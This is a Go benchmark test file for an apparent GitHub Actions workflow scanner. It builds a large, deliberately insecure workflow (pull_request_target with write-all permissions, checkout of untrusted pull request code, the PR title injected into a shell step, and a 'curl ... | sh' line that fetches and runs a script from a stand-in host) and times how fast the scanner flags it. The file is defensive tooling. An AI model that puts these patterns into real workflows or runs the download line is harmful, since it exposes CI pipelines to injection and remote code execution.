package actions

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ward-sec/ward/checks"
)

// BenchmarkWorkflow scans a generated workflow of 200 jobs × 10 steps with
// expressions, downloads and unpinned actions on every step.
func BenchmarkWorkflow(b *testing.B) {
	var sb strings.Builder
	sb.WriteString("on: pull_request_target\npermissions: write-all\njobs:\n")
	for j := 0; j < 200; j++ {
		fmt.Fprintf(&sb, "  job%d:\n    runs-on: ubuntu-latest\n    steps:\n", j)
		for s := 0; s < 10; s++ {
			fmt.Fprintf(&sb, "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n")
			fmt.Fprintf(&sb, "      - run: |\n          echo \"${{ github.event.pull_request.title }}\"\n          curl -s https://x.example/i.sh | sh\n          npm ci\n")
		}
	}
	src := []byte(sb.String())
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := Check{}.Scan(context.Background(), checks.NewBytesFile(".github/workflows/big.yml", src))
		if err != nil || len(res.Findings) == 0 {
			b.Fatal(err)
		}
	}
}

// BenchmarkFixtureWorkflows scans every fixture workflow once per op: the
// size and shape of real workflows (a few KB each).
func BenchmarkFixtureWorkflows(b *testing.B) {
	ents, err := os.ReadDir("testdata/workflows")
	if err != nil {
		b.Fatal(err)
	}
	var files [][]byte
	var total int64
	for _, e := range ents {
		data, err := os.ReadFile(filepath.Join("testdata/workflows", e.Name()))
		if err != nil {
			b.Fatal(err)
		}
		files = append(files, data)
		total += int64(len(data))
	}
	b.SetBytes(total)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, data := range files {
			if _, err := (Check{}).Scan(context.Background(), checks.NewBytesFile(".github/workflows/f.yml", data)); err != nil {
				b.Fatal(err)
			}
		}
	}
}
